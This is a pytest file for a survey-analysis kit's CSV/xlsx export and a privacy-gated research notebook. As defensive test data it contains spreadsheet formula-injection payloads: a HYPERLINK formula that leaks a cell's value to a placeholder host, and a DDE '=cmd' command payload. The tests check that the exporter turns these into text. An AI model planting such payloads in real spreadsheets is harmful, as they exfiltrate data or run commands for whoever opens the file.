"""The researchers' notebook and the one-call export (issue 13, point 9).

* :func:`kit.analysis.export.export` writes a table to CSV and xlsx that read back with the same
  values; a hostile name (``=HYPERLINK(...)``) comes back as text, never as a formula; it
  refuses to overwrite.
* ``notebooks/explore.ipynb`` is committed without outputs, reads no raw answers of people
  (only the board analysis' gated tables), and runs under papermill, exporting its tables.
  (``make test`` also runs it through nbval, as every notebook in ``notebooks/``.)
"""

from __future__ import annotations

import ast
import json
import os
import re
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from kit.analysis.export import export, is_formula_like
from kit.errors import ArgumentError

ROOT = Path(__file__).resolve().parents[1]
EXPLORE = ROOT / "notebooks" / "explore.ipynb"

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klik hier")'
HOSTILE = [HYPERLINK, "+31 6 1234", "-2+3", "@SUM(A1:A9)", " =1+1", "\t=1+1"]


def _table() -> pd.DataFrame:
    names = ["Bovenbouw", "Groep 3/4 ‘é’", *HOSTILE]
    k = len(names)
    return pd.DataFrame({
        "team": names,
        "mean": np.linspace(-1.25, 4.5, k).round(4),
        "n": np.arange(3, 3 + k),
        "shown": [k % 2 == 0 for k in range(k)],
    })


# ------------------------------------------------------------------------------------ export
def test_round_trip_csv_and_xlsx(tmp_path):
    frame = _table()
    paths = export(frame, tmp_path / "teams")
    assert paths == [tmp_path / "teams.csv", tmp_path / "teams.xlsx"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["teams.csv", "teams.xlsx"]  # no temp

    raw = paths[0].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")                        # UTF-8 with BOM for Excel
    back = pd.read_csv(paths[0], encoding="utf-8-sig", keep_default_na=False)
    assert list(back.columns) == list(frame.columns)
    np.testing.assert_allclose(back["mean"], frame["mean"])
    assert back["n"].tolist() == frame["n"].tolist()
    assert back["shown"].tolist() == frame["shown"].tolist()
    # plain names unchanged; every hostile one with an apostrophe in front: text in a sheet
    assert back["team"].tolist()[:2] == frame["team"].tolist()[:2]
    assert back["team"].tolist()[2:] == ["'" + h for h in HOSTILE]

    ws = openpyxl.load_workbook(paths[1]).active
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == list(frame.columns)
    assert [r[0] for r in rows[1:]] == frame["team"].tolist()         # values exactly as typed
    assert [r[1] for r in rows[1:]] == pytest.approx(frame["mean"].tolist())
    assert [r[2] for r in rows[1:]] == frame["n"].tolist()
    assert [r[3] for r in rows[1:]] == frame["shown"].tolist()
    cells = {c.value: c for c in ws["A"][1:]}
    for h in HOSTILE:
        assert cells[h].data_type == "s" and cells[h].quotePrefix, h
    assert not cells["Bovenbouw"].quotePrefix
    assert isinstance(ws["B2"].value, float) and ws["B2"].data_type == "n"   # numbers stay numbers


def test_no_formula_in_the_xlsx_file(tmp_path):
    export(pd.DataFrame({"team": [HYPERLINK], HYPERLINK: [1]}), tmp_path / "t", formats="xlsx")
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet                     # no formula element
    assert sheet.count("HYPERLINK") == 2                                  # header and cell, as text
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert ws["A2"].value == HYPERLINK and ws["B1"].value == HYPERLINK
    assert ws["B1"].data_type == "s" and ws["B1"].quotePrefix


def test_hostile_header_and_index_in_csv(tmp_path):
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": [1.5]}, index=pd.Index(["@x"], name="+team"))
    (path,) = export(frame, tmp_path / "h.csv", formats=["csv"], index=True)
    assert path == tmp_path / "h.csv"
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0] == "'+team,'=cmd|' /C calc'!A0"
    assert lines[1] == "'@x,1.5"


def test_dutch_csv(tmp_path):
    frame = pd.DataFrame({"habit": ["Op leren gericht zijn"], "alpha": [0.8675],
                          "n": [93]})
    (path,) = export(frame, tmp_path / "r", formats="csv", dutch=True)
    text = path.read_text(encoding="utf-8-sig")
    assert text.splitlines() == ["habit;alpha;n", "Op leren gericht zijn;0,8675;93"]
    back = pd.read_csv(path, sep=";", decimal=",", encoding="utf-8-sig")
    assert back["alpha"].iloc[0] == pytest.approx(0.8675)


def test_missing_values_are_empty(tmp_path):
    frame = pd.DataFrame({"team": ["S04-PK", None], "mean": [np.nan, 3.0],
                          "n": pd.array([pd.NA, 8], dtype="Int64"),
                          "when": pd.to_datetime([None, "2026-03-01"])})
    csv_path, xlsx_path = export(frame, tmp_path / "m")
    assert csv_path.read_text(encoding="utf-8-sig").splitlines()[1] == "S04-PK,,,"
    rows = list(openpyxl.load_workbook(xlsx_path).active.iter_rows(values_only=True))
    assert rows[1] == ("S04-PK", None, None, None)
    assert rows[2][1:3] == (3.0, 8) and rows[2][3].isoformat().startswith("2026-03-01")


def test_refuses_to_overwrite(tmp_path):
    (tmp_path / "t.xlsx").write_bytes(b"mine")
    with pytest.raises(ArgumentError, match="already exist"):
        export(_table(), tmp_path / "t")
    assert (tmp_path / "t.xlsx").read_bytes() == b"mine"                   # untouched
    assert not (tmp_path / "t.csv").exists()                              # nothing written half
    paths = export(_table(), tmp_path / "t", overwrite=True)
    assert openpyxl.load_workbook(paths[1]).active["A2"].value == "Bovenbouw"


@pytest.mark.parametrize("formats", [(), ("pdf",), ("csv", "parquet")])
def test_unknown_formats(tmp_path, formats):
    with pytest.raises(ArgumentError):
        export(_table(), tmp_path / "t", formats=formats)
    assert list(tmp_path.iterdir()) == []


def test_only_a_frame(tmp_path):
    with pytest.raises(ArgumentError, match="DataFrame"):
        export(_table()["team"], tmp_path / "t")


def test_formula_like():
    for h in HOSTILE:
        assert is_formula_like(h), h
    for ok in ["Bovenbouw", "Team -1", "3+4", "– (verborgen)", "", 1.0, -3, None]:
        assert not is_formula_like(ok), ok


# ---------------------------------------------------------------------------- the notebook
def _notebook() -> dict:
    return json.loads(EXPLORE.read_text(encoding="utf-8"))


def _code(nb: dict) -> list[str]:
    return ["".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"]


def test_notebook_is_committed_without_outputs():
    nb = _notebook()
    code = [c for c in nb["cells"] if c["cell_type"] == "code"]
    assert len(code) >= 10
    assert all(c["outputs"] == [] and c["execution_count"] is None for c in code)
    assert [c for c in code if "parameters" in c.get("metadata", {}).get("tags", [])]


#: store tables that hold single people's answers or pupils' results (and the free text)
RAW = {"answers", "respondents", "pupils", "observations", "tests", "free_text", "rejections"}
#: functions that compute from raw tables, bypassing the board analysis' gate
RAW_READERS = {"read_parquet", "read_table", "aggregate", "icc_by_habit",
               "reliability_by_habit", "item_distribution", "habit_scores", "free_text",
               "pupil_values", "evaluate", "mixed_model", "team_relations", "disclosure"}


def raw_access(source: str) -> list[str]:
    """What in a notebook cell's code reads people's raw data: an attribute or a string
    subscript naming a raw store table, a ``getattr`` with such a name, or a call of a function
    that computes from the raw tables (the reports' gated tables come from the board
    analysis)."""
    code = "\n".join("" if line.lstrip().startswith(("%", "!")) else line
                     for line in source.splitlines())
    found = []
    for node in ast.walk(ast.parse(code)):
        if isinstance(node, ast.Attribute) and node.attr in RAW:
            found.append(f"line {node.lineno}: .{node.attr}")
        elif isinstance(node, ast.Constant) and node.value in RAW:
            found.append(f"line {node.lineno}: {node.value!r}")
        elif isinstance(node, ast.Name | ast.Attribute):
            name = node.id if isinstance(node, ast.Name) else node.attr
            if name in RAW_READERS:
                found.append(f"line {node.lineno}: {name}")
        elif isinstance(node, ast.alias) and node.name.split(".")[-1] in RAW_READERS:
            found.append(f"import {node.name}")
    return found


@pytest.mark.parametrize("snippet", [
    "teams = aggregate(st.respondents, st.answers, st.instrument)",
    "x = st.answers",
    "x = getattr(st, 'answers')",
    "x = st.__dict__['pupils']",
    "from kit.analysis.teams import icc_by_habit",
    "%matplotlib inline\nimport pandas as pd\nd = pd.read_parquet('store/answers.parquet')",
    "ml = kit.mixed_model(pv, ts)",
])
def test_raw_access_is_found(snippet):
    assert raw_access(snippet)


def test_notebook_reads_no_raw_answers():
    code = _code(_notebook())
    found = {k: raw_access(src) for k, src in enumerate(code)}
    assert {k: v for k, v in found.items() if v} == {}
    joined = "\n".join(code)
    assert "board_analysis(" in joined                  # the gated tables, one analysis
    assert not re.search(r"\bst\.(answers|respondents)\b", joined)


def test_notebook_parameters():
    import papermill
    assert set(papermill.inspect_notebook(str(EXPLORE))) == {
        "store", "aspiration", "wave", "lang", "threshold", "out"}


@pytest.mark.slow
def test_notebook_runs_and_exports(sample_store_path, tmp_path, monkeypatch):
    import papermill
    # the kernel imports the kit under test (kernels inherit the environment)
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join(
        [str(ROOT), *[p for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p]]))
    out = tmp_path / "exports"
    papermill.execute_notebook(
        str(EXPLORE), str(tmp_path / "explore.ipynb"), cwd=str(ROOT / "notebooks"),
        parameters={"store": str(sample_store_path), "lang": "en", "out": str(out),
                    "aspiration": str(ROOT / "sample_data" / "aspiration.yml")},
        progress_bar=False)
    names = {p.name for p in out.iterdir()}
    for table in ("habits", "items", "team_scores", "reliability", "icc", "relations",
                  "multilevel"):
        assert {f"{table}.csv", f"{table}.xlsx"} <= names, table
    assert "team_scores_nl.csv" in names

    rel = pd.read_csv(out / "reliability.csv")
    assert rel["habit_name"].iloc[0] == "Being oriented towards learning"     # by name, in English
    assert rel["alpha"].between(0, 1).all() and (rel["alpha_ci_low"] <= rel["alpha"]).all()
    ml = pd.read_csv(out / "multilevel.csv")
    assert {"habit_name", "indicator_name", "slope", "ci_low", "ci_high"} <= set(ml.columns)
    assert (ml["status"] == "ok").any()

    # the export holds what the reports show: a team below the threshold has no numbers
    ws = openpyxl.load_workbook(out / "team_scores.xlsx").active
    rows = list(ws.iter_rows(values_only=True))
    head = list(rows[0])
    pk = [dict(zip(head, r, strict=True)) for r in rows[1:] if r[head.index("team")] == "S04-PK"]
    assert len(pk) == 5
    assert all(r["mean"] is None and r["n"] is None and r["suppressed"] is True for r in pk)
    shown = [dict(zip(head, r, strict=True)) for r in rows[1:]
             if r[head.index("team")] == "S01-BB"]
    assert all(isinstance(r["mean"], float) for r in shown) and len(shown) == 5
